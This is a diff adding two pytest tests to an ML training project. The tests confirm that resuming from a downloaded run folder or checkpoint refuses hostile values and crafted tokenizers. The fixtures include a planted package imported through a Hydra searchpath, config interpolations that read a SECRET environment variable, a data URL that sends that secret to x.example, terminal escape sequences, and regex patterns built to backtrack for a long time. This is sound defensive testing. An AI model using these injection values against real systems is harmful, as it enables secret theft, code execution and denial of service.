@@ -892,6 +892,80 @@ def test_a_resume_repeats_no_foreign_class_or_folder_from_a_run_folder_or_a_chec
         Tokenizer(hf, "crafted").encode("a" * 50000 + "b")
 
 
+def test_a_downloaded_run_folder_runs_no_code_and_reads_no_secret_before_its_check(tmp_path, tokenizer, monkeypatch,
+                                                                                    capsys):
+    """Found by session 55's review: a recorded hydra.searchpath=[pkg://x] was composed (importing x) before the
+    check that refused it, where today's command switches a group; a resolver named by an interpolation
+    (${oc.${tags.0}:SECRET}) passed the resolver list; a checkpoint's stored config was resolved by the tools that
+    build from it (${oc.env:...} in a data URL); a recorded escape sequence reached the terminal raw."""
+    import sys
+
+    from momattn.cli import resume_overrides
+
+    marker = tmp_path / "ran"
+    (tmp_path / "pwn").mkdir()
+    (tmp_path / "pwn" / "__init__.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
+    monkeypatch.syspath_prepend(str(tmp_path))
+    run = tmp_path / "dl"
+    (run / ".hydra").mkdir(parents=True)
+    (run / "checkpoints").mkdir()
+    last = run / "checkpoints" / "last.ckpt"
+    _save(last, tokenizer)
+    (run / ".hydra" / "overrides.yaml").write_text("- trainer.devices=1\n- hydra.searchpath=[pkg://pwn]\n")
+    with pytest.raises(CheckpointError, match=r"\(hydra.searchpath=\[pkg://pwn\]\) sets Hydra itself"):
+        resume_overrides([f"ckpt_path={last}", "trainer=cpu"])  # (trainer=cpu: composed with what it keeps)
+    assert not marker.exists() and "pwn" not in sys.modules
+    for line in ("tags=[env,'${oc.${tags.0}:SECRET}']", "data.name='${oc.${x}:y}'", "data.name='${ ${x} }'"):
+        (run / ".hydra" / "overrides.yaml").write_text(f"- \"{line}\"\n")
+        with pytest.raises(CheckpointError, match=r"calls the resolver named by an interpolation"):
+            resume_overrides([f"ckpt_path={last}"])
+    (run / ".hydra" / "overrides.yaml").write_text("- tags=[x,'${tags.0}']\n")  # a plain reference reads only
+    assert resume_overrides([f"ckpt_path={last}"])[0] == "tags=[x,'${tags.0}']"
+    # an escape sequence (erase the line, set the clipboard) is printed escaped, in the line and in an error
+    (run / ".hydra" / "overrides.yaml").write_text("- \"tags=['\\e[2K\\e]52;c;cm0K\\aok']\"\n")
+    capsys.readouterr()
+    resume_overrides([f"ckpt_path={last}"])
+    err = capsys.readouterr().err
+    assert "tags=['\\x1b[2K\\x1b]52;c;cm0K\\x07ok']" in err and "\x1b" not in err and "\x07" not in err
+    (run / ".hydra" / "overrides.yaml").write_text("- \"hydra.x=\\e[2K\"\n")
+    with pytest.raises(CheckpointError) as refused:
+        resume_overrides([f"ckpt_path={last}"])
+    assert "(hydra.x=\\x1b[2K)" in str(refused.value) and "\x1b" not in str(refused.value)
+    # a stored config holds no interpolation: evaluate.py resolved it (a data URL read $SECRET and was fetched)
+    ckpt = torch.load(last, weights_only=True)
+    ckpt["momattn"]["config"] = {"data": {"_target_": "momattn.data.sources.TextFiles",
+                                          "paths": ["https://x.example/${oc.env:SECRET}/a.txt"]}}
+    torch.save(ckpt, tmp_path / "env.ckpt")
+    with pytest.raises(CheckpointError, match=r"its run config's data.paths.0 is 'https://x.example/\$\{oc.env:SECRET"
+                                              r"\}/a.txt', an interpolation .* not written by train.py"):
+        read_checkpoint(tmp_path / "env.ckpt")
+
+
+def test_a_checkpoints_tokenizer_is_measured_on_each_probe_it_can_encode(tokenizer, monkeypatch):
+    """Found by session 55's review: a crafted tokenizer that failed on the probe alone (a pattern that panics on
+    its CJK characters) was accepted unmeasured and then multiplied the corpus; a pattern that backtracks for
+    seconds on 288 characters passed (hours per megabyte). Tokenizer.encode refuses a multiplied text too."""
+    import json
+
+    from momattn import checkpoint
+    from momattn.errors import DataError
+    from momattn.tokenizer import Tokenizer
+
+    crafted = json.loads(tokenizer.to_json())
+    crafted["normalizer"] = {"type": "Replace", "pattern": {"String": " "}, "content": "x" * 2000}
+    crafted["pre_tokenizer"] = {"type": "Sequence", "pretokenizers": [
+        {"type": "Split", "pattern": {"Regex": "\u65e5((.|\\n)*)*\\d{11}"}, "behavior": "Isolated", "invert": False},
+        crafted["pre_tokenizer"]]}
+    with pytest.raises(CheckpointError, match=r"its tokenizer turns \d+ characters of plain text into [\d,]+ tokens"):
+        checkpoint.checkpoint_tokenizer({"tokenizer": json.dumps(crafted)}, "c.ckpt")
+    with pytest.raises(DataError, match=r"^tokenizer 'x' turns a text of 9 characters into [\d,]+ tokens .* crafted"):
+        Tokenizer.from_json(json.dumps({**crafted, "pre_tokenizer": None}), name="x").encode("a b c d e")
+    monkeypatch.setattr(checkpoint, "PROBE_S", 0.0)  # (a pattern that takes seconds: every encode is too slow here)
+    with pytest.raises(CheckpointError, match=r"its tokenizer takes [\d.]+ s to encode \d+ characters .* crafted or "
+                                              "damaged"):
+        checkpoint.checkpoint_tokenizer({"tokenizer": tokenizer.to_json()}, "own.ckpt")
+
+
 def test_a_reordered_sweep_of_fsdp_runs_is_refused_before_any_job_starts(tmp_path, monkeypatch):
     # FSDP's last.ckpt is a folder: the check looked for a file, skipped it, and each job then refused itself inside
     # Hydra's launcher (exit 1) after Hydra had rewritten job 0's .hydra/ with seed 2's values (found by review)
